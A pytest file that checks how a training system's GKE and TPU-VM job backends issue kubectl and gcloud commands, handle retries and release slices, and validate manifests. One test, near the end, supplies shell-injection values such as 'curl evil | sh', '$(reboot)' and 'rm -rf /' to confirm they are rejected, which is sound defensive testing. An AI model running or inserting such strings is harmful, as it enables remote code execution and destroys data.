"""Production backends per region (infra/tpu.py) against recorded kubectl and gcloud: the exact commands each
region's jobs send (context, namespace, project, zone), the TPU-VM job's states, its retry-only-on-I/O rule,
and the rendered manifests checked against the Kubernetes and JobSet schemas."""

from __future__ import annotations

import json
import re
import signal
import subprocess
from pathlib import Path

import jsonschema
import kubernetes_validate
import pytest
import yaml
from referencing import Registry, Resource

from diloco.config import ConfigError, build_config, dump_config
from diloco.infra import tpu

DATA = Path(__file__).parent / "data"
GCLOUD = json.loads((DATA / "gcloud-queued-resources.json").read_text())
K8S = "1.33"  # the GKE minor the manifests are checked against


def N(job: str) -> str:
    """The name the backends give job `job` of the regional config's run."""
    return tpu.job_name(regional_config(), job)


def regional_config(eu_learners=1, **backend):
    return build_config({
        "run": {"id": "prod_Run-7"},
        "regions": [{"name": "us", "learners": 1}, {"name": "eu", "learners": eu_learners}],
        "backend": {"kind": "gke", "project": "acme-train", "context": "gke_acme-train_us-central1_home",
                    "namespace": "pretrain", "config_dir": "/cfg", "corpus_dir": "/mnt/corpus",
                    "slices": {"us": {"generation": "v5p", "topology": "2x2x2", "zone": "us-east5-a",
                                      "context": "gke_acme-train_us-east5_train-us", "namespace": "train-us"},
                               "eu": {"generation": "v6e", "topology": "2x4", "zone": "europe-west4-a", "spot": True,
                                      "runtime_version": "v2-alpha-tpuv6e", "project": "acme-eu",
                                      "context": "gke_acme-eu_europe-west4_train-eu"}},
                    **backend},
    })


# --- config ----------------------------------------------------------------------------------------------------

def test_regions_override_project_context_and_namespace_and_fall_back_to_the_backends():
    b = regional_config().backend
    us, eu = b.slice_of("us"), b.slice_of("eu")
    assert (us.project, us.context, us.namespace) == ("acme-train", "gke_acme-train_us-east5_train-us", "train-us")
    assert (eu.project, eu.context, eu.namespace) == ("acme-eu", "gke_acme-eu_europe-west4_train-eu", "pretrain")
    plain = build_config({"backend": {"kind": "tpu-vm"}}).backend
    assert (plain.slice_of("us").project, plain.slice_of("us").context, plain.slice_of("us").namespace) == \
        ("my-project", None, "default")  # no context: kubectl's current one


@pytest.mark.parametrize("key, value, match", [
    ("context", "my cluster", r"backend.slices.us.context"),
    ("namespace", "Train_US", r"backend.slices.us.namespace"),
    ("project", "A", r"backend.slices.us.project"),
])
def test_bad_region_placement_names_the_key(key, value, match):
    with pytest.raises(ConfigError, match=match):
        build_config({"backend": {"slices": {"us": {key: value}}}})


def test_bad_backend_kind_and_spares_off_the_local_backend_are_refused():
    with pytest.raises(ConfigError, match="backend.kind"):
        build_config({"backend": {"kind": "tpu"}})
    with pytest.raises(ConfigError, match="spares are processes of the local backend, and backend.kind is gke"):
        build_config({"run": {"spares": 1}, "backend": {"kind": "gke"}})


# --- GKE: each region's cluster and namespace ---------------------------------------------------------------------

class Kubectl:
    """Records each kubectl call; every JobSet reads as still running."""

    def __init__(self):
        self.calls: list[tuple[list[str], dict | None]] = []

    def __call__(self, argv, **kw):
        self.calls.append((argv, yaml.safe_load(kw["input"]) if kw.get("input") else None))
        return subprocess.CompletedProcess(argv, 0, json.dumps({"status": {}}) if argv[-1] == "json" else "", "")


def test_every_kubectl_call_goes_to_its_regions_cluster_and_namespace(tmp_path):
    cfg = regional_config()
    (tmp_path / "config.yaml").write_text(dump_config(cfg))
    kubectl = Kubectl()
    # the run flow's backend (the syncer's, region None) and each region flow's
    backends = {r: tpu.jobs_for(cfg, r, tmp_path / "config.yaml", tmp_path / "logs", run=kubectl)
                for r in (None, "us", "eu")}
    home = ["kubectl", "--context", "gke_acme-train_us-central1_home", "--namespace", "pretrain"]
    us = ["kubectl", "--context", "gke_acme-train_us-east5_train-us", "--namespace", "train-us"]
    eu = ["kubectl", "--context", "gke_acme-eu_europe-west4_train-eu", "--namespace", "pretrain"]
    # the config reaches every cluster before a job starts there
    assert [(a, m["metadata"]["namespace"]) for a, m in kubectl.calls] == \
        [([*home, "apply", "-f", "-"], "pretrain"), ([*us, "apply", "-f", "-"], "train-us"),
         ([*eu, "apply", "-f", "-"], "pretrain")]
    kubectl.calls.clear()
    for name, argv in [("syncer", ["syncer", "--config", "c.yaml", "--shard", "0"]),
                       ("us-0", ["learner", "--config", "c.yaml", "--learner", "us-0", "--corpus", "x"]),
                       ("eu-0", ["learner", "--config", "c.yaml", "--learner", "eu-0", "--corpus", "x"])]:
        jobs = backends[tpu.job_region(cfg, name)]
        jobs.start(name, argv)
        assert jobs.poll(name) is None
    with pytest.raises(ValueError, match="runs in eu, not in this backend.s us"):   # a region's backend runs its own learners only
        backends["us"].start("eu-0", ["learner", "--config", "c.yaml", "--learner", "eu-0", "--corpus", "x"])
    backends["us"].signal("us-0")
    for region in ("us", "eu", None):
        backends[region].stop_all()
    calls = [a for a, _ in kubectl.calls]
    assert calls == [
        [*home, "delete", "jobset", N("syncer"), "--ignore-not-found", "--wait=true"],
        [*home, "apply", "-f", "-"],
        [*home, "get", "jobset", N("syncer"), "-o", "json"],
        [*us, "delete", "jobset", N("us-0"), "--ignore-not-found", "--wait=true"],
        [*us, "apply", "-f", "-"],
        [*us, "get", "jobset", N("us-0"), "-o", "json"],
        [*eu, "delete", "jobset", N("eu-0"), "--ignore-not-found", "--wait=true"],
        [*eu, "apply", "-f", "-"],
        [*eu, "get", "jobset", N("eu-0"), "-o", "json"],
        [*us, "delete", "jobset", N("us-0"), "--ignore-not-found", "--wait=false"],
        # stop_all: each region's learners in its own cluster, then the syncer (only what has no region)
        [*us, "delete", "jobset", "-l", "diloco/run=prod_Run-7,diloco/region=us", "--ignore-not-found", "--timeout=10s"],
        [*eu, "delete", "jobset", "-l", "diloco/run=prod_Run-7,diloco/region=eu", "--ignore-not-found", "--timeout=10s"],
        [*home, "delete", "jobset", "-l", "diloco/run=prod_Run-7,!diloco/region", "--ignore-not-found", "--timeout=10s"],
    ]
    applied = {m["metadata"]["name"]: m for a, m in kubectl.calls if m}
    assert [applied[N(n)]["metadata"]["namespace"] for n in ("syncer", "us-0", "eu-0")] == \
        ["pretrain", "train-us", "pretrain"]
    assert backends["us"].jobs["us-0"].log == "kubectl logs -l diloco/job=us-0 --context gke_acme-train_us-east5_train-us -n train-us"


def test_a_regions_backend_refuses_another_regions_job(tmp_path):
    us = tpu.GkeJobs(regional_config(), "", "us", run=Kubectl())
    with pytest.raises(ValueError, match="job eu-0 runs in eu, not in this backend's us"):
        us.start("eu-0", ["learner"])
    with pytest.raises(ValueError, match="job syncer runs in the home cluster, not in this backend's us"):
        us.start("syncer", ["syncer"])


# --- TPU VMs: queued resources through gcloud ----------------------------------------------------------------------

class Gcloud:
    """Records each gcloud call and answers from a script: per verb (create, describe, scp, ssh, delete), a list of
    (returncode, stdout, stderr) used in order, the last one repeating."""

    def __init__(self, **script):
        self.script = script
        self.calls: list[list[str]] = []

    def __call__(self, argv, **kw):
        assert kw == {"text": True, "capture_output": True}
        self.calls.append(argv)
        answers = self.script.get(argv[4], [(0, "", "")])
        rc, out, err = answers.pop(0) if len(answers) > 1 else answers[0]
        return subprocess.CompletedProcess(argv, rc, out, err)


def described(state):
    return (0, json.dumps(GCLOUD["describe"][state]), "")


def refused(kind):
    return (1, "", GCLOUD["stderr"][kind])


class Proc:
    """The local ssh process: running until the test sets rc."""

    def __init__(self, argv, **kw):
        self.argv, self.kw, self.rc = argv, kw, None

    def poll(self):
        return self.rc

    def kill(self):
        self.rc = -9

    def wait(self, timeout=None):
        return self.rc


class Clock:
    def __init__(self):
        self.t, self.slept = 0.0, []

    def __call__(self):
        return self.t

    def sleep(self, s):
        self.slept.append(s)
        self.t += s


def tpu_jobs(tmp_path, gcloud, eu_learners=1):
    cfg = regional_config(eu_learners, kind="tpu-vm")
    clock = Clock()
    procs = []

    def popen(argv, **kw):
        procs.append(Proc(argv, **kw))
        return procs[-1]

    jobs = tpu.TpuVmJobs(cfg, "eu", tmp_path / "config.yaml", tmp_path / "logs", run=gcloud, popen=popen,
                         sleep=clock.sleep, clock=clock, look_every_s=10)
    return jobs, procs, clock


EU = ["--project=acme-eu", "--zone=europe-west4-a"]
ARGV = ["learner", "--config", "c.yaml", "--learner", "eu-0", "--corpus", "x", "--start-step", "40"]


def test_a_tpu_vm_learner_waits_for_its_slice_runs_on_every_host_and_gives_the_slice_back(tmp_path):
    gcloud = Gcloud(describe=[described("WAITING_FOR_RESOURCES"), described("PROVISIONING"), described("ACTIVE")])
    jobs, procs, clock = tpu_jobs(tmp_path, gcloud)
    jobs.start("eu-0", ARGV)
    assert jobs.poll("eu-0") is None                    # WAITING_FOR_RESOURCES
    assert jobs.poll("eu-0") is None and len(gcloud.calls) == 2  # not read again before look_every_s
    clock.t += 10
    assert jobs.poll("eu-0") is None                    # PROVISIONING
    clock.t += 10
    assert jobs.poll("eu-0") is None and len(procs) == 1  # ACTIVE: config copied, container started
    assert jobs.poll("eu-0") is None                    # running: the ssh's state, no gcloud call
    procs[0].rc = 0
    assert jobs.poll("eu-0") == 0 and jobs.poll("eu-0") == 0
    node = N("eu-0")
    describe = ["gcloud", "compute", "tpus", "queued-resources", "describe", node, *EU, "--format=json"]
    assert gcloud.calls == [
        ["gcloud", "compute", "tpus", "queued-resources", "create", node, f"--node-id={node}", *EU,
         "--accelerator-type=v6e-8", "--runtime-version=v2-alpha-tpuv6e", "--spot"],
        describe, describe, describe,
        ["gcloud", "compute", "tpus", "tpu-vm", "scp", str(tmp_path / "config.yaml"), f"{node}:diloco-config.yaml",
         "--worker=all", *EU],
        ["gcloud", "compute", "tpus", "queued-resources", "delete", node, "--force", "--quiet", *EU],  # done: released
    ]
    ssh = procs[0].argv
    assert ssh[:9] == ["gcloud", "compute", "tpus", "tpu-vm", "ssh", node, "--worker=all", *EU] and ssh[9] == "--command"
    assert ssh[10] == ("sudo docker rm -f diloco >/dev/null 2>&1; sudo docker run --rm --name diloco --privileged "
                       "--net=host -v \"$HOME\"/diloco-config.yaml:/cfg/config.yaml:ro -v /mnt/corpus:/mnt/corpus:ro "
                       "us-docker.pkg.dev/my-project/diloco/diloco:latest diloco learner --config /cfg/config.yaml "
                       "--learner eu-0 --corpus /mnt/corpus --start-step 40")
    assert procs[0].kw["stdin"] == subprocess.DEVNULL and procs[0].kw["stderr"] == subprocess.STDOUT
    assert jobs.jobs["eu-0"].log == tmp_path / "logs" / "eu-0.log"


@pytest.mark.parametrize("state, why", [
    ("FAILED", 'queued resource FAILED: There is no more capacity in the zone "europe-west4-a"'),
    ("SUSPENDED", "queued resource SUSPENDED"),
])
def test_a_slice_that_fails_fails_the_job_with_the_reason_and_is_released(tmp_path, state, why):
    gcloud = Gcloud(describe=[described(state)])
    jobs, procs, _ = tpu_jobs(tmp_path, gcloud)
    jobs.start("eu-0", ARGV)
    assert jobs.poll("eu-0") == 1 and procs == []
    assert [c[4] for c in gcloud.calls] == ["create", "describe", "delete"]
    assert why in jobs.tail("eu-0")


@pytest.mark.parametrize("kind, words", [("quota", "RESOURCE_EXHAUSTED: Quota limit"),
                                         ("bad_argument", "INVALID_ARGUMENT: Accelerator type")])
def test_a_refused_request_is_not_retried_and_fails_the_job_with_gclouds_reason(tmp_path, kind, words):
    gcloud = Gcloud(create=[refused(kind)])
    jobs, _, clock = tpu_jobs(tmp_path, gcloud)
    jobs.start("eu-0", ARGV)
    assert len(gcloud.calls) == 1 and clock.slept == []
    assert jobs.poll("eu-0") == 1 and len(gcloud.calls) == 1  # nothing to read or release
    assert f"queued resource refused: `gcloud compute tpus queued-resources create {N('eu-0')}` failed: " \
           f"ERROR: (gcloud.compute.tpus.queued-resources.create) {words}" in jobs.tail("eu-0")
    jobs.stop_all()
    assert len(gcloud.calls) == 1  # it never held a slice


@pytest.mark.parametrize("kind", ["connection_reset", "unavailable", "ssh_lost"])
def test_io_failures_are_retried_with_backoff(tmp_path, kind):
    verb = {"ssh_lost": "scp"}.get(kind, "describe")
    script = {"describe": [described("ACTIVE")], verb: [refused(kind), refused(kind), described("ACTIVE")]}
    gcloud = Gcloud(**script)
    jobs, procs, clock = tpu_jobs(tmp_path, gcloud)
    jobs.start("eu-0", ARGV)
    assert jobs.poll("eu-0") is None and len(procs) == 1  # came through
    assert [c[4] for c in gcloud.calls].count(verb) == 3 and clock.slept == [2.0, 4.0]


def test_io_failures_past_the_retries_fail_the_job(tmp_path):
    gcloud = Gcloud(describe=[refused("unavailable")])
    jobs, _, clock = tpu_jobs(tmp_path, gcloud)
    jobs.start("eu-0", ARGV)
    assert jobs.poll("eu-0") == 1
    assert [c[4] for c in gcloud.calls] == ["create", *["describe"] * 4] and clock.slept == [2.0, 4.0, 8.0]
    assert "UNAVAILABLE: The service is currently unavailable." in jobs.tail("eu-0")


def test_a_restart_runs_again_on_the_slice_it_kept(tmp_path):
    gcloud = Gcloud(create=[(0, "", ""), refused("already_exists")], describe=[described("ACTIVE")])
    jobs, procs, clock = tpu_jobs(tmp_path, gcloud)
    jobs.start("eu-0", ARGV)
    jobs.poll("eu-0")
    procs[0].rc = 1  # the learner failed: the slice stays for its restart
    assert jobs.poll("eu-0") == 1 and "delete" not in [c[4] for c in gcloud.calls]
    jobs.start("eu-0", ARGV)  # ALREADY_EXISTS: the same slice
    assert jobs.poll("eu-0") is None and len(procs) == 2 and clock.slept == []
    assert [c[4] for c in gcloud.calls] == ["create", "describe", "scp", "create", "describe", "scp"]


def test_sigterm_stops_the_container_and_then_releases_the_slice_sigkill_releases_it_at_once(tmp_path):
    gcloud = Gcloud(describe=[described("ACTIVE")], delete=[refused("not_found")])
    jobs, procs, _ = tpu_jobs(tmp_path, gcloud)
    jobs.start("eu-0", ARGV)
    jobs.poll("eu-0")
    jobs.signal("eu-0", signal.SIGTERM)
    assert gcloud.calls[-1] == ["gcloud", "compute", "tpus", "tpu-vm", "ssh", N("eu-0"), "--worker=all", *EU,
                                "--command", "sudo docker kill --signal=TERM diloco"]
    assert jobs.poll("eu-0") is None  # handing in
    procs[0].rc = 0
    assert jobs.poll("eu-0") == 0 and gcloud.calls[-1][4] == "delete"  # NOT_FOUND on delete: already gone, fine
    jobs.start("eu-0", ARGV)
    jobs.poll("eu-0")
    jobs.signal("eu-0", signal.SIGKILL)
    assert procs[1].rc == -9 and gcloud.calls[-1][4] == "delete" and jobs.wait("eu-0") == -9
    jobs.stop_all()
    assert gcloud.calls[-1][4] == "delete" and [c[4] for c in gcloud.calls].count("delete") == 2  # nothing held


def test_stop_all_tries_every_slice_and_says_which_were_not_deleted(tmp_path):
    gcloud = Gcloud(delete=[refused("bad_argument"), (0, "", "")])
    jobs, _, _ = tpu_jobs(tmp_path, gcloud, eu_learners=2)
    jobs.start("eu-0", ARGV)
    jobs.start("eu-1", ARGV)
    with pytest.raises(RuntimeError, match=r"not deleted, delete them by hand: eu-0: .*INVALID_ARGUMENT"):
        jobs.stop_all()
    assert [c[5] for c in gcloud.calls if c[4] == "delete"] == [N("eu-0"), N("eu-1")]


def test_tpu_vm_runs_learners_by_gcloud_and_the_syncer_in_the_home_cluster(tmp_path):
    cfg = regional_config(kind="tpu-vm")
    (tmp_path / "config.yaml").write_text(dump_config(cfg))
    kubectl = Kubectl()
    backends = {r: tpu.jobs_for(cfg, r, tmp_path / "config.yaml", tmp_path / "logs", run=kubectl)
                for r in (None, "us", "eu")}
    assert isinstance(backends[None], tpu.GkeJobs) and backends[None].context == "gke_acme-train_us-central1_home"
    assert isinstance(backends["us"], tpu.TpuVmJobs) and backends["eu"].logs == tmp_path / "logs" / "eu"
    with pytest.raises(ValueError, match="backend.kind local has no per-region backend"):
        tpu.jobs_for(build_config({}), "us", tmp_path / "config.yaml", tmp_path / "logs")



def test_every_backend_is_one_job_backend_chosen_by_the_config(tmp_path):
    """The supervisor drives a JobBackend and nothing else: the local, GKE and TPU-VM backends each
    offer all of it (the local one the spares' calls too), and backend_for picks one from backend.kind."""
    from diloco.infra.jobs import JobBackend, LocalJobs, SpareJobs, backend_for

    protocol = [m for m in vars(JobBackend) if not m.startswith("_")]
    assert set(protocol) == {"start", "has", "poll", "signal", "wait", "stop_all", "tail", "where_log"}
    local = build_config({})
    (tmp_path / "config.yaml").write_text(dump_config(local))
    cfg = regional_config(kind="tpu-vm")
    backends = [backend_for(local, None, tmp_path / "config.yaml"),
                *(tpu.jobs_for(cfg, r, tmp_path / "config.yaml", tmp_path / "logs", run=Kubectl()) for r in (None, "eu"))]
    assert [type(b) for b in backends] == [LocalJobs, tpu.GkeJobs, tpu.TpuVmJobs]
    for backend in backends:
        assert all(callable(getattr(backend, m, None)) for m in protocol), type(backend)
    assert all(callable(getattr(backends[0], m)) for m in vars(SpareJobs) if not m.startswith("_"))
    assert backends[0].logs == tmp_path / "logs" and backends[0].warm == local.run.warm_starts


# --- the manifests against the Kubernetes and JobSet schemas -------------------------------------------------------

def k8s_registry() -> Registry:
    defs = kubernetes_validate.utils.schema_contents(f"kubernetes-json-schema/v{K8S}.0-local-strict/_definitions.json", K8S)
    return Resource.from_contents(defs) @ Registry()


def test_rendered_manifests_are_valid_configmaps_and_jobsets(tmp_path):
    cfg = build_config({**regional_config().model_dump(mode="json"), "syncer": {"shards": 2},
                        "state": {"password_env": "REDIS_PW"},
                        "transport": {"security_protocol": "SASL_SSL", "sasl_mechanism": "SCRAM-SHA-512",
                                      "sasl_username": "diloco", "sasl_password_env": "KAFKA_PW"}})
    docs = list(yaml.safe_load_all(tpu.write_plan(cfg, dump_config(cfg), tmp_path)[0].read_text()))
    jobset = jsonschema.Draft202012Validator(json.loads((DATA / "jobset-v1alpha2.schema.json").read_text()),
                                             registry=k8s_registry())
    kinds = []
    for doc in docs:
        kinds.append(doc["kind"])
        if doc["kind"] == "ConfigMap":
            kubernetes_validate.validate(doc, K8S, strict=True)
        else:
            jobset.validate(doc)
    assert kinds == ["ConfigMap", "ConfigMap", *["JobSet"] * 4]  # home (pretrain) and us (train-us); 2 shards, 2 learners


@pytest.mark.parametrize("path, value, words", [
    (("spec", "failurePolicy", "maxRestart"), 0, "Additional properties are not allowed"),
    (("spec", "replicatedJobs", 0, "template", "spec", "template", "spec", "restartPolicy"), 5, "is not of type"),
    (("spec", "replicatedJobs", 0, "template", "spec", "template", "spec", "containers", 0, "imagePullPolicy"), 1,
     "is not of type"),
])
def test_the_schemas_catch_a_broken_jobset(path, value, words):
    """The check is not vacuous: a misspelt JobSet field and a bad pod field inside the template fail it."""
    doc = tpu.jobset(regional_config(), "us-0", ["learner", "--config", "c.yaml", "--learner", "us-0"])
    node = doc
    for key in path[:-1]:
        node = node[key]
    node[path[-1]] = value
    validator = jsonschema.Draft202012Validator(json.loads((DATA / "jobset-v1alpha2.schema.json").read_text()),
                                                registry=k8s_registry())
    with pytest.raises(jsonschema.ValidationError, match=words):
        validator.validate(doc)


def test_job_names_are_unique_and_valid_labels_by_construction():
    """dl-<run id>-<learner> cut to 63 characters gave us-0 and us-1 of a 35-character run one JobSet
    (starting one deleted the other's); us_east and us-east collided too."""
    from diloco.infra.tpu import JOB_NAME_CHARS, job_name
    dns = re.compile(r"^[a-z]([-a-z0-9]*[a-z0-9])?$")
    cfg = build_config({"run": {"id": "a-very-long-run-name-for-a-big-job-20261202-101010-abcd"},
                        "regions": [{"name": "us_east", "learners": 2}, {"name": "us-east", "learners": 2}]})
    names = [job_name(cfg, n) for n in [*cfg.learner_ids(), *cfg.syncer_ids(), "config"]]
    assert len(set(names)) == len(names)
    assert all(dns.match(n) and len(n) <= JOB_NAME_CHARS and len(f"{n}-slice-0-0") <= 63 for n in names), names
    assert job_name(cfg, "us-east-0") == job_name(cfg, "us-east-0")          # stable: a restart finds its job


@pytest.mark.parametrize("key, value", [("corpus_dir", "/data/x; curl evil | sh"), ("config_dir", "$(reboot)"),
                                        ("image", "img:latest && rm -rf /"), ("corpus_dir", "relative/path")])
def test_what_reaches_a_tpu_vms_root_shell_is_validated(key, value):
    """corpus_dir, config_dir and image went unquoted into a root ssh command with docker --privileged."""
    with pytest.raises(ConfigError, match=f"backend.{key}"):
        regional_config(kind="tpu-vm", **{key: value})


def test_the_tpu_vm_command_quotes_every_argument():
    import shlex
    cfg = regional_config(kind="tpu-vm")
    cmds = tpu.queued_resource_commands(cfg, "eu-0", ["learner", "--config", "x", "--learner", "eu-0", "--corpus", "y"],
                                        "/tmp/c.yaml")
    words = shlex.split(cmds["run"][-1].split("; ", 1)[1])
    assert words[-8:] == ["diloco", "learner", "--config", "/cfg/config.yaml", "--learner", "eu-0", "--corpus",
                          "/mnt/corpus"]


def test_the_old_import_path_of_the_backends_still_answers_with_a_deprecation_warning():
    from diloco.flows import tpu as old

    with pytest.warns(DeprecationWarning, match="moved to diloco.infra.tpu.jobs_for"):
        assert old.jobs_for is tpu.jobs_for
    with pytest.raises(AttributeError):
        old.no_such_backend
